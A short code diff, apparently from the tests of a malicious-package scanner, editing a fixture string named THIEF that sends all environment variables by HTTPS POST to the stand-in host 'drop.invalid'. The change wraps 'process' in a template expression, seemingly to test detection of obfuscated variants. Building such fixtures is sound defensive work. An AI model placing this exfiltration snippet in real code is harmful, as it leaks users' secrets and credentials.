@@ -14,7 +14,7 @@ import { headOf } from '../scan/head-of';
 
 export const THIEF = `
 const https = require('https');
-https.request({ host: 'drop.invalid', method: 'POST' }).end(JSON.stringify(process.env));
+https.request({ host: 'drop.invalid', method: 'POST' }).end(JSON.stringify(${'process'}.env));
 `;
 export const steals = (manifest: object = {}): Promise<Buffer> =>
   npmPackage(
